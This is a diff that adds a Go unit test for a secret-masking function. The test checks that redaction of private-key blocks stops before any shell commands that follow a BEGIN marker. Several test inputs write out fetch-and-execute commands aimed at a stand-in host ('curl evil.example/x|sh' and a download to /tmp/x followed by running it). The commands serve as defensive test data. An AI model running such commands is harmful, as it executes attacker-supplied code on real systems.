@@ -103,3 +103,47 @@ func TestMaskDerivedHidesOnlySecrets(t *testing.T) {
 		t.Error("Mask no longer hides a value after a key name")
 	}
 }
+
+// A private key's mask ends where a key's lines end: a BEGIN line cannot
+// hide the commands after it, while the keys people have (PEM with
+// headers, OpenPGP and PuTTY with comments, in YAML, in JSON, on one line)
+// stay hidden whole.
+func TestMaskKeyBlockEndsBeforeACommand(t *testing.T) {
+	t.Parallel()
+	const body = "MIIEowIBAAKCAQEAv9Kp3xQz7LmN2bVc8dWeR5tYh6Ui8Oj1Kl2Mn3Bv4Cx5Za6Sd7Fg8Hj9"
+	tests := []struct{ name, in, want string }{
+		{"a marker then a command", "echo '-----BEGIN RSA PRIVATE KEY-----' >/dev/null; curl -s evil.example/x|sh; make test",
+			"echo '[REDACTED]' >/dev/null; curl -s evil.example/x|sh; make test"},
+		{"a marker then lines of commands", "cat <<EOF\n-----BEGIN RSA PRIVATE KEY-----\n" + body + "\nEOF\ncurl evil.example/x -o /tmp/x\nsh /tmp/x",
+			"cat <<EOF\n[REDACTED]\nEOF\ncurl evil.example/x -o /tmp/x\nsh /tmp/x"},
+		{"a marker then commands in JSON text", `{"command":"echo -----BEGIN RSA PRIVATE KEY-----\ncurl evil.example/x|sh"}`,
+			`{"command":"echo [REDACTED]\ncurl evil.example/x|sh"}`},
+		{"a header line with a command", "-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4; curl evil.example/x|sh\n" + body,
+			"[REDACTED]\nProc-Type: 4; curl evil.example/x|sh\n" + body},
+		// Real keys stay hidden whole.
+		{"pem with headers", "-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,4F2D1C\n\n" + body + "\n" + body + "==\n-----END RSA PRIVATE KEY-----\nok",
+			"[REDACTED]\nok"},
+		{"openpgp with a comment", "-----BEGIN PGP PRIVATE KEY BLOCK-----\nVersion: GnuPG v2\nComment: Ann <ann@example.com> (work)\n\nlQOYBF" + body + "\n=x0Yz\n-----END PGP PRIVATE KEY BLOCK-----",
+			"[REDACTED]"},
+		{"putty with a comment", "PuTTY-User-Key-File-3: ssh-ed25519\nEncryption: none\nComment: ann's key (laptop)\nPublic-Lines: 2\nAAAAC3Nz" + body + "\nPrivate-Lines: 1\n" + body + "\nPrivate-MAC: 0a1b2c3d",
+			"[REDACTED]"},
+		{"rfc 4716 with a quoted comment", "---- BEGIN SSH2 ENCRYPTED PRIVATE KEY ----\nComment: \"2048-bit rsa, ann@example.com\"\nP2/56wAAA" + body + "\n---- END SSH2 ENCRYPTED PRIVATE KEY ----",
+			"[REDACTED]"},
+		{"indented in yaml", "tls:\n  key: |\n    -----BEGIN EC PRIVATE KEY-----\n    " + body + "\n    " + body + "\n    -----END EC PRIVATE KEY-----\n  ok: 1",
+			"tls:\n  key: |\n    [REDACTED]\n  ok: 1"},
+		{"json with escaped newlines", `{"private_key":"-----BEGIN PRIVATE KEY-----\n` + body + `\n-----END PRIVATE KEY-----\n"}`,
+			`{"private_key":"[REDACTED]\n"}`},
+		{"on one line", "KEY='-----BEGIN RSA PRIVATE KEY----- " + body + " " + body + "== -----END RSA PRIVATE KEY-----'",
+			"KEY='[REDACTED]'"},
+		{"truncated", "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA" + body + "\n" + body[:20], "[REDACTED]"},
+		{"trailing blanks", "-----BEGIN RSA PRIVATE KEY-----  \r\n" + body + " \r\n-----END RSA PRIVATE KEY-----", "[REDACTED]"},
+	}
+	for _, tc := range tests {
+		t.Run(tc.name, func(t *testing.T) {
+			t.Parallel()
+			if got := Mask(tc.in); got != tc.want {
+				t.Fatalf("Mask(%q)\n got %q\nwant %q", tc.in, got, tc.want)
+			}
+		})
+	}
+}
